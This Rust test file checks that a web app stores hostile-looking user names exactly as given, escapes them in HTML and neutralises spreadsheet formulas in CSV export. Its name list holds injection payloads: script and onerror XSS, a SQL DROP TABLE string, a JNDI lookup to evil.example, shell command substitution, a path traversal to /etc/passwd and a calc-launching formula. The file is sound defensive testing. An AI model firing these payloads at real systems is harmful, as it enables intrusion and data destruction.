//! What looks hostile and is a name all the same: kept to the letter, shown as text, and never a formula in an export.

use super::room::Room;
use serde_json::json;

/// What it is called here, and the name.
const NAMES: &[(&str, &str)] = &[
    ("markup", "<script>alert(1)</script>"),
    ("markup that ends an attribute", "\" onmouseover=\"alert(1)"),
    ("markup that ends a script of JSON", "</script><img src=x onerror=alert(1)>"),
    ("an entity", "&lt;b&gt; &amp;amp; &#x3c;"),
    ("a comment", "<!-- Ada --> ]]>"),
    ("SQL", "Robert'); DROP TABLE user;--"),
    ("a pattern", "100% _ * \\ [a-z]"),
    ("a query of the search index", "\"Ada\" OR NEAR(a b) name:*"),
    ("a template", "{{link}} {{7*7}} {% raw %} ${7*7} <%= 7*7 %>"),
    ("a look-up", "${jndi:ldap://evil.example/a}"),
    ("a format", "%s%n%x {0} {}"),
    ("a command", "$(reboot) `reboot` ; reboot"),
    ("a path", "../../../etc/passwd"),
    ("an address", "javascript:alert(1)"),
    ("a formula", "=cmd|' /C calc'!A0"),
    ("a formula with a plus", "+1+1"),
    ("a formula with an at", "@SUM(A1:A9)"),
    ("a word for nothing", "null"),
    ("a number", "1e9"),
    ("letters from right to left", "آنا پترووا"),
    ("letters that join", "👩\u{200d}⚕️ Anna"),
    ("one letter of many marks", "Z\u{351}\u{34f}\u{321}algo"),
    ("an apostrophe", "Aoife O’Neill-d'Arc"),
];

pub fn names() -> impl Iterator<Item = &'static str> {
    NAMES.iter().map(|(what, _)| *what)
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

#[tokio::test]
async fn a15_a37_a41_a_name_that_looks_hostile_is_kept_to_the_letter_and_shown_as_text() {
    let room = Room::open().await;
    let (server, owner) = (&room.server, &room.owner);
    for (n, (what, name)) in NAMES.iter().enumerate() {
        let details =
            json!({ "name": name, "email": format!("p{n}@example.org"), "language": null, "groups": [name] });
        let (status, id) = server.function(owner, "user_add", json!({ "details": details })).await;
        assert!(status.is_success(), "{what}: {status} {id}");
        let (_, row) = server.function(owner, "user_get", json!({ "id": id })).await;
        assert_eq!((&row["name"], &row["groups"]), (&json!(name), &json!([name])), "{what}");
        let found = json!({ "query": { "filter": { "search": name } } });
        let (status, found) = server.function(owner, "users_list", found).await;
        assert_eq!((status.as_u16(), &found["page"]["total"]), (200, &json!(1)), "{what}: {found}");
        let page = owner.get(format!("{}/users/{}", server.base, id.as_str().unwrap())).send().await.unwrap();
        let page = page.text().await.unwrap();
        assert!(page.contains(&escaped(name)), "{what} is shown: {page}");
        for raw in ["<script>alert", "<img src=x", "<!-- Ada"] {
            assert!(!page.contains(raw), "{what} is markup");
        }
    }
    let csv = owner.get(format!("{}/users.csv", server.base)).send().await.unwrap().text().await.unwrap();
    let mut rows = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = rows.records().map(|row| row.unwrap()[0].to_owned()).collect();
    for (what, name) in NAMES {
        let formula = name.starts_with(['=', '+', '-', '@']);
        let cell = if formula { format!("'{name}") } else { (*name).to_owned() };
        assert!(cells.contains(&cell), "{what}: {cells:?}");
    }
    assert_eq!(cells.len(), NAMES.len() + 1);
    assert!(!server.log().contains("ERROR"));
}

#[tokio::test]
async fn a15_a41_the_same_names_go_out_in_messages_as_text_and_come_back_on_the_phones_page() {
    let room = Room::open().await;
    let (server, owner) = (&room.server, &room.owner);
    for (what, name) in NAMES {
        let mut settings = room.ids.settings.clone();
        settings["name"] = json!(name);
        settings["help_contact"] = json!(name);
        let set = json!({ "settings": settings, "password": { "kind": "keep" } });
        let (status, told) = server.function(owner, "settings_set", set).await;
        assert!(status.is_success(), "{what}: {told}");
        let query = [("user", room.ids.user.as_str()), ("language", "en"), ("days", "7"), ("note", name)];
        let query = serde_urlencoded::to_string(query).unwrap();
        for url in [format!("{}/preview?{query}", server.base), room.ids.link.clone()] {
            let answer = owner.get(&url).send().await.unwrap();
            assert_eq!(answer.status(), 200, "{what}");
            let page = answer.text().await.unwrap();
            let text = html_escape::decode_html_entities(&page);
            assert!(text.contains(name), "{what}: {page}");
            assert!(!page.contains("<script>alert") && !page.contains("<img src=x"), "{what}: {page}");
        }
    }
    assert!(!server.log().contains("ERROR"));
}
